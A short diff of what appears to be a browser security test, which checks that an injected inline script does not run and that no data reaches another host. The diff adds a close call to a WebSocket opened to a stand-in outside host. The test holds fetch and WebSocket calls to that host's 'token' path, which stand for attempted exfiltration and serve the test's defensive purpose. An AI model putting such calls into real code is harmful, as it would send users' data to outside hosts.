@@ -50,7 +50,7 @@ test("an inline script that was injected does not run, and nothing is sent to an
         document.body.append(script)
         fetch("https://elsewhere.example.org/token").catch(() => undefined)
         try {
-          new WebSocket("wss://elsewhere.example.org/token")
+          new WebSocket("wss://elsewhere.example.org/token").close()
         } catch {
           // Some browsers throw, others report it later.
         }
